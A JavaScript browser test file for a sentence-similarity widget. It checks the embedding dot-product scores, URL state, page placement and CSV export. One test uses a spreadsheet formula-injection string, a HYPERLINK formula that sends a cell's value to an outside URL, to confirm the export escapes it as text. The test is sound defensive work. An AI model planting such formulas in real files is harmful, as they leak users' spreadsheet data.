// Browser test of the sentence-similarity widget: every similarity is the dot
// product of the module's embeddings for the same model file (computed here,
// in this process); an edited sentence changes its pairs; an empty one says
// which sentence to type; the URL keeps the sentences and gives them back; the
// embed shows the widget alone; on the full page it shares the real-model
// widget's encoder (one request for the model file).
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { startBrowser, withPage, openPage, assertClean, eventually, assertShown, assertNoBadText, openEncoder, scrollToWidget, whenReady } from './harness.mjs';

const W = '[data-widget="sentence-similarity"]';
const LOAD = 60000;  // ms: 8 MB, from the network once, then the cache
const DEFAULTS = ['How old are you?', 'What is your age?', 'How are you?'];

let browser, att, encoder;
before(async () => { [browser, { att, encoder }] = await Promise.all([startBrowser(), openEncoder()]); });
after(async () => { encoder?.delete(); await browser?.close(); });
const ready = whenReady(W, LOAD);

const dot = (a, b) => a.reduce((s, x, k) => s + x * b[k], 0);
const value = (page, pair) => page.locator(`${W} [data-pair="${pair}"] .sim-pair-value`).textContent();

// every pair shows the dot product of the module's embeddings, to 2 decimals
async function assertPairs(page, sentences, what) {
  const E = sentences.map((s) => encoder.encode(s).embedding);
  for (const [a, b] of [[0, 1], [0, 2], [1, 2]]) assertShown(await value(page, `${a}-${b}`), dot(E[a], E[b]), 2, `${what}: similarity ${a}-${b}`);
}

test('the embed: three sentences, three pairs, each the dot product of the module\'s embeddings', () => withPage(browser, 'embed.html?widget=sentence-similarity', async ({ page }) => {
  await ready(page);
  assert.equal(await page.locator('[data-widget]').count(), 1);
  assert.equal(await page.locator(`${W} .widget-title`).textContent(), 'How similar are two sentences?');
  const boxes = page.locator(`${W} .controls input[type="text"]`);
  assert.deepEqual(await boxes.evaluateAll((inputs) => inputs.map((i) => i.value)), DEFAULTS);
  assert.deepEqual(await page.locator(`${W} .controls .control-label`).allTextContents(), ['Sentence A', 'Sentence B', 'Sentence C']);
  await assertPairs(page, DEFAULTS, 'defaults');
  // the same meaning scores higher than a different question
  assert.ok(Number(await value(page, '0-1')) > Number(await value(page, '0-2')));
  assert.equal(await page.locator(`${W} .model-loader`).getAttribute('data-phase'), 'ready');
  assert.match(await page.locator(`${W} [data-pair="0-1"] svg`).getAttribute('aria-label'), /^similarity of A and B: \d\.\d\d$/);
  await assertNoBadText(page);
}));

test('an edited sentence changes its pairs; an empty one names the sentence to type', () => withPage(browser, 'embed.html?widget=sentence-similarity', async ({ page }) => {
  await ready(page);
  const C = page.getByLabel('Sentence C');
  await C.fill('I am fine, thanks.');
  const sentences = [DEFAULTS[0], DEFAULTS[1], 'I am fine, thanks.'];
  const E = sentences.map((s) => encoder.encode(s).embedding);
  await eventually(async () => Math.abs(Number(await value(page, '0-2')) - dot(E[0], E[2])) <= 0.005 + 1e-9,
    { message: 'the A · C similarity of the new sentence' });
  await assertPairs(page, sentences, 'C edited');

  await page.getByLabel('Sentence B').fill('   ');
  const empty = page.locator(`${W} [data-pair="0-1"] .sim-pair-empty`);
  await empty.waitFor();
  assert.equal(await empty.textContent(), 'type sentence B');
  assert.equal(await page.locator(`${W} [data-pair="1-2"] .sim-pair-empty`).textContent(), 'type sentence B');
  assertShown(await value(page, '0-2'), dot(E[0], E[2]), 2, 'A · C stays');
  assert.equal(await page.getByRole('alert').count(), 0, 'an empty sentence is no error');
  await assertNoBadText(page);
}));

test('the URL keeps the sentences; opening it again shows the same pairs; Chinese', async () => {
  const { page, log } = await openPage(browser, 'embed.html?widget=sentence-similarity');
  await ready(page);
  await page.getByLabel('Sentence A').fill('The cat sat on the mat.');
  await eventually(async () => new URL(page.url()).searchParams.get('a') === 'The cat sat on the mat.', { message: 'a in the URL' });
  const params = new URL(page.url()).searchParams;
  assert.equal(params.get('widget'), 'sentence-similarity');
  params.set('c', 'A cat was sitting on the mat.');
  params.set('lang', 'zh');
  const again = await openPage(browser, `embed.html?${params}`);
  await ready(again.page);
  const sentences = ['The cat sat on the mat.', DEFAULTS[1], 'A cat was sitting on the mat.'];
  assert.deepEqual(await again.page.locator(`${W} .controls input[type="text"]`).evaluateAll((inputs) => inputs.map((i) => i.value)), sentences);
  await assertPairs(again.page, sentences, 'from the URL');
  assert.equal(await again.page.locator(`${W} .widget-title`).textContent(), '两个句子有多相似？');
  assert.equal(await again.page.locator(`${W} .model-loader`).getAttribute('data-source'), 'cache', 'the second page read the model from the cache');
  await assertNoBadText(again.page);
  assertClean(log, browser.origin);
  assertClean(again.log, browser.origin);
  await again.page.close();
  await page.close();
});

test('on the full page: its own section right after vectors, prefixed URL state, one encoder for both widgets', () => withPage(browser, `?sentence-similarity.b=${encodeURIComponent('What age are you?')}`, async ({ page, log }) => {
  const order = await page.locator('main [data-widget]').evaluateAll((roots) => roots.map((r) => r.dataset.widget));
  assert.equal(order[order.indexOf('vectors') + 1], 'sentence-similarity', 'right after vectors');
  // the real model's 2 layers of 4 heads come once multi-head attention is taught (web/widgets/prerequisites/widget.js)
  assert.equal(order[order.indexOf('multi-head') + 1], 'real-model', 'real-model right after multi-head');
  assert.equal(await page.locator('section#sentence-similarity [data-widget="sentence-similarity"]').count(), 1);
  await scrollToWidget(page, W);
  await ready(page);
  await page.locator('[data-widget="real-model"]').scrollIntoViewIfNeeded();
  await page.locator('[data-widget="real-model"][data-ready="true"]').waitFor({ timeout: LOAD });
  await assertPairs(page, [DEFAULTS[0], 'What age are you?', DEFAULTS[2]], 'full page');
  assert.equal(log.requests.filter((url) => url.endsWith('/model/encoder.q.bin')).length <= 1, true, 'at most one request for the model');
  await page.getByLabel('Sentence A').fill('How old is he?');
  await eventually(async () => new URL(page.url()).searchParams.get('sentence-similarity.a') === 'How old is he?', { message: 'the prefixed key' });
  await assertNoBadText(page);
}));

test('export: a CSV row per pair, with the core\'s numbers', () => withPage(browser, 'embed.html?widget=sentence-similarity', async ({ page }) => {
  await ready(page);
  const [csvDownload] = await Promise.all([page.waitForEvent('download'), page.locator(`${W} .export-button`, { hasText: 'CSV' }).click()]);
  const csv = readFileSync(await csvDownload.path(), 'utf8').replace(/^\uFEFF/, '').trim().split(/\r?\n/);
  assert.equal(csv[0], 'sentence,other sentence,similarity (cosine)');
  assert.equal(csv.length, 4, 'a row per pair');
  const E = DEFAULTS.map((s) => encoder.encode(s).embedding);
  const cosine = Number(csv[1].split(',').at(-1));
  assert.ok(Math.abs(cosine - dot(E[0], E[1])) < 1e-5, `A · B in the CSV: ${cosine}`);
  assert.ok(csv[1].startsWith('How old are you?,What is your age?,'));
}));

test('export: a sentence that would be a spreadsheet formula is written as text (a leading \'), the similarity stays a number', () => {
  const formula = '=HYPERLINK("https://example.com/?d="&B2,"Click")';
  return withPage(browser, `embed.html?widget=sentence-similarity&a=${encodeURIComponent(formula)}&c=${encodeURIComponent('-1+2')}`, async ({ page }) => {
    await ready(page);
    assert.equal(await page.getByLabel('Sentence A').inputValue(), formula, 'the sentence from the link');
    const [csvDownload] = await Promise.all([page.waitForEvent('download'), page.locator(`${W} .export-button`, { hasText: 'CSV' }).click()]);
    const csv = readFileSync(await csvDownload.path(), 'utf8').replace(/^\uFEFF/, '').trim().split(/\r?\n/);
    const quoted = '"\'=HYPERLINK(""https://example.com/?d=""&B2,""Click"")"';
    assert.ok(csv[1].startsWith(`${quoted},What is your age?,`), `A's row: ${csv[1]}`);
    assert.ok(csv[2].startsWith(`${quoted},'-1+2,`), `A and C: ${csv[2]}`);
    assert.ok(csv[3].startsWith('What is your age?,\'-1+2,'), `B and C: ${csv[3]}`);
    const E = [formula, DEFAULTS[1], '-1+2'].map((s) => encoder.encode(s).embedding);
    const cosine = csv[1].slice(`${quoted},What is your age?,`.length);
    assert.match(cosine, /^-?\d/, 'the similarity unprefixed');
    assert.ok(Math.abs(Number(cosine) - dot(E[0], E[1])) < 1e-5, `A · B in the CSV: ${cosine}`);
  });
});
